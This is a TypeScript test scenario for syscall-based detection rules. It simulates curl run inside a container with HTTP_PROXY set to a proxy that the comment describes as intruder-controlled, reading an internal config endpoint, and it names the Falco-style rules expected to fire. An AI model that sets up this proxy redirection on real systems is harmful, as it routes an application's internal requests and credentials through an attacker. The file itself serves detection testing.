/**
 * event-generator ProgramRunWithDisallowedHttpProxyEnv: in a pod, curl runs
 * with HTTP_PROXY pointing at a proxy the intruder controls, so the
 * application's internal HTTP calls (and their credentials) go through it.
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { POD_ENV, podShell } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco-incubating_rules.yaml', rule: 'Program run with disallowed http proxy env' },
  tiercel: ['File Transfer Tool Launched in Container'],
};

export default function build(s: Scenario): void {
  const { shell } = podShell(s, {
    name: 'api', id: 'a11ce0ff1cf4', image: 'docker.io/library/python:3.12-slim',
    main: { exe: 'python3', exepath: '/usr/local/bin/python3.12', args: ['-m', 'gunicorn', 'app:app'] },
  });
  const curl = shell.spawn({
    exe: 'curl', exepath: '/usr/bin/curl', args: ['-s', 'http://127.0.0.1:8080/internal/config'],
    env: [...POD_ENV, 'HTTP_PROXY=http://127.0.0.1:3128'],
  });
  const fd = curl.connect('127.0.0.1', 3128);
  curl.write(fd, 'GET http://127.0.0.1:8080/internal/config HTTP/1.1');
  curl.exit();
}
